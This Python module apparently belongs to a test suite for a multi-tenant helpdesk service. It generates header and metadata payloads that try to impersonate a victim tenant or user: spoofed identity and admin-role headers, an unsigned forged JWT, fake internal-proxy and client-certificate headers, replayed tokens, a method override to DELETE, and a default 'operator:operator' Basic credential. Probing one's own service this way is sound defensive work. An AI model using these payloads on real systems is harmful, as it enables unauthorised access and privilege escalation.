"""Ways to say in a header who one would like to be; each has been believed somewhere."""

import base64
import json
from dataclasses import dataclass

Metadata = tuple[tuple[str, str | bytes], ...]


@dataclass(frozen=True)
class Victim:
    tenant_id: str
    user_id: str
    email: str
    token: str


def spellings(victim: Victim) -> list[Metadata]:
    """Each is what one try adds to a call that carries the caller's own good token."""
    tenant, user = victim.tenant_id, victim.user_id
    single: list[tuple[str, str | bytes]] = [
        *((name, tenant) for name in _TENANT_NAMES),
        *((name, user) for name in _USER_NAMES),
        *((name, "admin") for name in ("x-role", "x-roles", "x-user-role", "x-helpdesk-roles")),
        *((name, victim.email) for name in _EMAIL_NAMES),
        *((name, _unsigned(victim)) for name in _CLAIM_NAMES),
        ("x-tenant-bin", tenant.encode()),
        ("x-tenant-id-bin", tenant.encode()),
        ("x-user-id-bin", user.encode()),
        ("x-permissions", "ticket.tickets.handle,auth.users.create"),
        ("x-scope", "helpdesk"),
        ("x-helpdesk-caller", json.dumps({"tenant_id": tenant, "user_id": user})),
        ("x-helpdesk-service", "auth"),
        ("x-forwarded-client-cert", "URI=spiffe://helpdesk.internal/svc/auth"),
        ("x-envoy-peer-metadata", tenant),
        ("x-envoy-internal", "true"),
        ("x-forwarded-for", "127.0.0.1"),
        ("forwarded", "for=127.0.0.1;by=gateway"),
        ("x-forwarded-host", "auth.helpdesk.internal"),
        ("x-original-url", f"/v1/tenants/{tenant}"),
        ("x-http-method-override", "DELETE"),
        ("baggage", f"tenant_id={tenant},user_id={user}"),
        ("tracestate", f"helpdesk=tenant:{tenant}"),
        ("cookie", f"access_token={victim.token}; tenant_id={tenant}"),
        ("proxy-authorization", f"Bearer {victim.token}"),
        ("x-authorization", f"Bearer {victim.token}"),
        ("x-access-token", victim.token),
        ("authorization", f"Bearer {victim.token}"),
        ("authorization", f"Bearer {_unsigned(victim)}"),
        ("authorization", "Basic b3BlcmF0b3I6b3BlcmF0b3I="),
    ]
    together: list[Metadata] = [
        (("x-tenant-id", tenant), ("x-tenant-id", tenant)),
        (("x-tenant-id", f"{tenant}, {tenant}"),),
        (("x-user-id", user), ("x-user-id", user)),
        (("x-tenant-id", tenant), ("x-user-id", user), ("x-roles", "admin")),
        (("x-tenant-id", ""), ("x-tenant-id", tenant)),
    ]
    return [*((one,) for one in single), *together]


_TENANT_NAMES = (
    "x-tenant", "X-Tenant", "X-TENANT-ID", "x-tenant-id", "x_tenant", "x_tenant_id", "tenant",
    "tenant-id", "tenant_id", "x-tenant-slug", "x-org-id", "x-scope-orgid", "x-account-id",
    "x-helpdesk-tenant", "x-helpdesk-tenant-id", "x-customer-id", "x-workspace", "domain",
)  # fmt: skip
_USER_NAMES = (
    "x-user", "X-User", "X-USER-ID", "x-user-id", "x_user_id", "user", "user-id", "user_id", "sub",
    "x-sub", "x-helpdesk-user", "x-helpdesk-user-id", "x-remote-user", "remote-user",
    "x-forwarded-user", "x-auth-user", "x-authenticated-userid", "x-impersonate-user", "x-act-as",
)  # fmt: skip
_EMAIL_NAMES = ("x-user-email", "x-forwarded-email", "x-auth-request-email", "from")
_CLAIM_NAMES = ("x-jwt-payload", "x-endpoint-api-userinfo", "x-amzn-oidc-data", "claims")


def _unsigned(victim: Victim) -> str:
    claims = {"tenant_id": victim.tenant_id, "sub": victim.user_id, "roles": ["admin"]}
    return base64.urlsafe_b64encode(json.dumps(claims).encode()).decode().rstrip("=")
